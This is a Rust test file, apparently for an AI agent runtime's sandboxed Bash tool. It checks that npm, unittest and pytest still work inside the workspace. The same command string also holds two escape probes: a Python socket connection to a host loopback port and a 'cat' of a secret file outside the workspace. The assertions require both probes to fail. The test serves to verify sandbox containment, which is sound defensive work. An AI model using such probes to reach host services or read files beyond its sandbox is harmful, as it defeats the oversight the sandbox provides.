/// `tests/mcp/setup.sh` installs, copied into the workspace as a project's vendored dependency),
/// while the same commands cannot reach the host's loopback services or read outside the
/// workspace.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn test_runners_work_and_still_reach_nothing_outside() {
    let fixture = Fixture::new();
    let site_packages = crate::mcp_support::tools_dir().join("venv/lib");
    let site_packages = std::fs::read_dir(&site_packages)
        .unwrap()
        .map(|entry| entry.unwrap().path().join("site-packages"))
        .find(|path| path.join("pytest").is_dir())
        .expect("tests/mcp/setup.sh installs pytest");
    for package in ["pytest", "_pytest", "pluggy", "iniconfig", "packaging"] {
        copy_tree(
            &site_packages.join(package),
            &fixture.workspace().join(".deps").join(package),
        );
    }
    std::fs::copy(
        site_packages.join("py.py"),
        fixture.workspace().join(".deps/py.py"),
    )
    .unwrap();
    fixture.write(
        "test_pytest_probe.py",
        "def test_sum():\n    assert 1 + 1 == 2\n",
    );
    fixture.write(
        "package.json",
        r#"{"name": "probe", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#,
    );
    fixture.write(
        "test.js",
        "require('assert').strictEqual(1 + 1, 2); console.log('node tests passed');\n",
    );
    fixture.write(
        "test_probe.py",
        "import unittest\n\nclass Probe(unittest.TestCase):\n    def test_sum(self):\n        self.assertEqual(1 + 1, 2)\n",
    );
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let secret = fixture.outside().join("secret.txt");
    let command = format!(
        "npm test 2>&1 | tail -1; python3 -m unittest -q 2>&1 | tail -1; \
         PYTHONPATH=.deps python3 -m pytest -q -p no:cacheprovider test_pytest_probe.py 2>&1 | tail -1; \
         python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' 2>&1 | tail -1; \
         cat {} 2>&1",
        secret.display()
    );
    let runtime = permissive(&fixture).await;
    let result = call(&runtime, "Bash", bash(&command)).await;
    let text = match result.block.is_error {
        true => error_text(&result, ErrorKind::ToolFailed),
        false => ok_text(&result),
    };
    assert!(text.contains("node tests passed"), "{text}");
    assert!(text.contains("OK"), "{text}");
    assert!(text.contains("1 passed"), "pytest: {text}");
    assert!(text.contains("ConnectionRefusedError"), "{text}");
    assert!(text.contains("No such file or directory"), "{text}");
    assert!(!text.contains("TOPSECRET"), "{text}");
    assert!(
        listener.accept().is_err(),
        "the host's listener saw a connection"
    );
}
